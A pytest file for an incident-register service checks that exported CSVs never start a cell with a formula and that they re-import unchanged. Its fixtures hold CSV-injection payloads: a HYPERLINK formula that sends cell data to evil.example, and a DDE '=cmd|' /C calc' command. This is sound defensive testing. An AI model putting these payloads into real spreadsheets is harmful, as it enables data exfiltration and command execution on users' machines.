"""CSV injection: the incident CSVs a coordinator opens in a spreadsheet never start a cell
with a formula, and read back to the same register."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from _api import coordinator_and_observer
from sarwatch.adapters.incidents.common import from_spreadsheet_cell, spreadsheet_cell
from sarwatch.adapters.store import MemoryStore
from sarwatch.ledger import Signer
from sarwatch.services.incident_files import import_file
from sarwatch.services.incidents import IncidentService
from sarwatch.settings import Settings

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

#: What a report from outside may say: formulas a spreadsheet would run or follow.
HOSTILE = {
    "place": '=HYPERLINK("http://evil.example/?"&A1,"details")',
    "cause": "-2+3",
    "country": "@SUM(1+1)",
    "route": "+39 333 1234567",
    "note": "'=already quoted",
}


@given(st.text())
def test_a_cell_reads_back_as_written_and_never_starts_a_formula(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert from_spreadsheet_cell(cell) == text
    assert not cell.startswith(_FORMULA_START)


@pytest.mark.parametrize("cell", ["'t is", "'", "off Zuwara", "12.5", "'a"])
def test_cells_written_elsewhere_are_read_as_they_are(cell: str) -> None:
    assert from_spreadsheet_cell(cell) == cell


@pytest.fixture
def api(tmp_path: Path) -> Iterator[tuple[TestClient, dict, dict]]:
    settings = Settings(home_dir=tmp_path, database_url=f"sqlite:///{tmp_path / 'a.db'}")
    with coordinator_and_observer(settings) as api:
        yield api


def _record_hostile_report(client: TestClient, coord: dict) -> None:
    body = {
        "kind": "shipwreck",
        "time": "2018-06-19T08:00:00Z",
        "lon": 12.5,
        "lat": 33.2,
        **HOSTILE,
        "actors": ["=cmd|' /C calc'!A0"],
        "sources": [{"name": "=1+2", "quality": 3, "reference": "@ref"}],
    }
    r = client.post("/api/incidents", headers=coord, json=body)
    assert r.status_code == 201, r.text


@pytest.mark.parametrize("fmt", ["csv", "mmp"])
def test_an_exported_register_starts_no_cell_with_a_formula(api, fmt: str, tmp_path: Path) -> None:
    client, coord, obs = api
    _record_hostile_report(client, coord)
    r = client.get(f"/api/incidents/export?format={fmt}", headers=obs)
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in c for c in cells)  # the hostile text is there...
    starting = [c for c in cells if c.startswith(_FORMULA_START)]
    assert not starting, f"cells a spreadsheet would run as formulas: {starting}"

    # ... and reads back as it was recorded
    path = tmp_path / f"export.{fmt}.csv"
    path.write_bytes(r.content)
    fresh = IncidentService(store=MemoryStore(), signer=Signer.generate())
    report = import_file(fresh, path, fmt=fmt, actor="t")
    assert report.refused == () and report.recorded == 1
    (got,) = list(fresh.iter_all())
    assert got.report.place == HOSTILE["place"]
    assert got.report.cause == HOSTILE["cause"]
    assert got.report.country == HOSTILE["country"]
    assert got.report.route == HOSTILE["route"]
    assert got.sources[0].name == "=1+2"
    if fmt == "csv":  # sarwatch's own CSV carries every field
        assert got.report.note == HOSTILE["note"]
        assert got.report.actors == ("=cmd|' /C calc'!A0",)
